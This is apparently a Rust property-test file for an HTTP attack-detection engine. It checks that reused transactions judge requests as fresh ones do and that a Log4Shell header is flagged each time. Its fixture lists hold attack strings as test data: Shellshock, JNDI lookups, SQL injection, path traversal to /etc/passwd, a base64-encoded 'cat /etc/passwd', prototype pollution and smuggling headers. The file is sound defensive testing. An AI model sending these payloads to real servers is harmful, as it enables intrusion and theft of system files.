//! A transaction that has served before judges as a new one does: what it remembers saves work, never a finding.

use proptest::prelude::*;
use sidewatch::http::Messages;
use sidewatch::{Engine, Transaction};

/// Fields that tell nothing, fields that tell something, and fields that are odd; some differ in a byte or in case.
const FIELDS: &[&str] = &[
    "Accept: text/html,*/*;q=0.8",
    "accept: text/html,*/*;q=0.8",
    "Accept: text/html,*/*;q=0.9",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "User-Agent: () { :; }; /bin/id",
    "X-Api: ${jndi:ldap://a.example/x}",
    "X-Api: ${jndi:ldap://b.example/x}",
    "Cookie: sid=41; lang=de",
    "Cookie: sid=41; sid=42",
    "Cookie: q=%5B%7B%22query%22%3A%22%7Ba%7D%22%7D%5D",
    "Cookie: id=1' or 7=7-- ",
    "Authorization: Basic ???",
    "Referer: https://shop.example/?page=1",
    "Referer: https://shop.example/?page=1' union select 1,2--",
    "X-Long: aWQ7Y2F0IC9ldGMvcGFzc3dkO2lkO2lkO2lkO2lk",
    "Transfer-Encoding: chunked, identity",
    "Content-Length: 0",
    "Connection: keep-alive",
    "Connection: close, content-length",
    "X-Odd : a",
    "Accept: text/html,*/*;q=0.8\r\n folded",
    "Accept:text/html,*/*;q=0.8",
    "Accept: text/html,*/*;q=0.8\n",
    "Host: a.example",
    "Host: b.example",
    "Host: c.example:80",
    "Host: user@a.example",
    "Content-Type: text/plain",
    "Content-Type: application/json",
    "Content-Encoding: gzip",
    "Upgrade: h2c",
    "Expect: 100-continue",
    "Expect: 100-continue2",
    "Authorization: Bearer abc",
    "/a?b=c",
    "\r",
];

/// How requests begin.
const BEGINNINGS: &[&str] = &[
    "GET /a?b=c HTTP/1.1\r\nHost: a.example",
    "POST /a?b=c HTTP/1.1\r\nHost: a.example",
    "GET /a?b=c HTTP/1.1\r\nAccept: */*",
    "GET /a?b=c HTTP/1.0\r\nHost: a.example",
    "GET http://b.example/a HTTP/1.1\r\nHost: a.example",
    "GET  /a?b=c HTTP/1.1\r\nHost: b.example",
    "get /a?b=c HTTP/1.1\r\nHost: c.example:80",
    "GET /a?b=c#d HTTP/1.1\nHost: a.example",
];

/// Targets that tell nothing and targets that tell something.
const TARGETS: &[&str] = &[
    "/a?b=c",
    "/a?b=c&b=d",
    "/a?id=1'+union+select+1,2--",
    "/a/../../etc/passwd",
    "http://user@a.example/a?b=c",
    "/%ff?q=%u0061",
    "/basket?page=2&sort=price%20(low)",
];

/// Members of a document; the same key or value may tell something at another place.
const MEMBERS: &[&str] = &[
    r#""state": "paid (late)""#,
    r#""state": "paid' or 7=7-- ""#,
    r#""role": "admin""#,
    r#""name": "admin""#,
    r#""__proto__": {"role": "admin", "state": "paid (late)"}"#,
    r#""constructor": {"prototype": {"x": 1}}"#,
    r#""prototype": {"constructor": 1}"#,
    r#""class": "cmVhZHk""#,
    r#""@type": "cmVhZHk""#,
    r#""query": "{ a }""#,
    r#""query": "mutation { login(user: \"a\") { id } }""#,
    r#""n": [1, 2.5, "1/2\"", "x@mail.example"]"#,
];

fn judged(tx: &mut Transaction, request: &[u8]) -> String {
    judged_in_pieces(tx, request, request.len().max(1))
}

fn judged_in_pieces(tx: &mut Transaction, request: &[u8], size: usize) -> String {
    tx.reset();
    request.chunks(size).for_each(|piece| tx.request_bytes(piece));
    tx.request_end();
    let mut out = Vec::new();
    tx.write_json(&mut out);
    String::from_utf8(out).expect("JSON is text")
}

/// Whether `served` tells of the request, whole and in pieces, what a new transaction tells.
fn judges_as_new(
    engine: &Engine,
    served: &mut Transaction,
    request: &str,
    size: usize,
) -> Result<(), TestCaseError> {
    let new = judged(&mut engine.transaction(), request.as_bytes());
    prop_assert_eq!(&judged(served, request.as_bytes()), &new, "{}", request);
    let again = judged_in_pieces(served, request.as_bytes(), size);
    prop_assert_eq!(again, new, "{} in pieces of {}", request, size);
    Ok(())
}

proptest! {
    #[test]
    fn targets_and_documents_that_came_before_change_nothing(
        requests in prop::collection::vec(
            (
                prop::sample::select(&["GET", "POST", "CONNECT"][..]),
                prop::sample::select(TARGETS),
                prop::collection::vec(prop::sample::select(MEMBERS), 0..5),
                1usize..80,
            ),
            1..10,
        ),
    ) {
        let engine = Engine::default();
        let mut served = engine.transaction();
        for (method, target, members, size) in &requests {
            let body = format!("{{{}}}", members.join(","));
            let head = "Host: a.example\r\nAccept: */*\r\nContent-Type: application/json";
            let request =
                format!("{method} {target} HTTP/1.1\r\n{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
            judges_as_new(&engine, &mut served, &request, *size)?;
        }
    }

    #[test]
    fn what_came_before_changes_nothing(
        requests in prop::collection::vec(
            (prop::sample::select(BEGINNINGS), prop::collection::vec(prop::sample::select(FIELDS), 0..8), 1usize..80),
            1..12,
        ),
    ) {
        let engine = Engine::default();
        let mut served = engine.transaction();
        for (beginning, fields, size) in &requests {
            let request = format!("{beginning}\r\n{}\r\n\r\n", fields.join("\r\n"));
            judges_as_new(&engine, &mut served, &request, *size)?;
        }
    }
}

#[test]
fn an_attack_in_a_field_is_found_each_time() {
    let mut tx = Engine::default().transaction();
    // Twice in one request: the second adds nothing to the list, and is no reason to pass it over in the next request.
    let field = "X-Api: ${jndi:ldap://a.example/x}\r\n";
    for _ in 0..3 {
        let request = format!("GET / HTTP/1.1\r\nHost: a.example\r\n{field}{field}\r\n");
        let event = judged(&mut tx, request.as_bytes());
        assert!(event.contains("log4shell") && tx.findings().len() == 1, "{event}");
    }
}
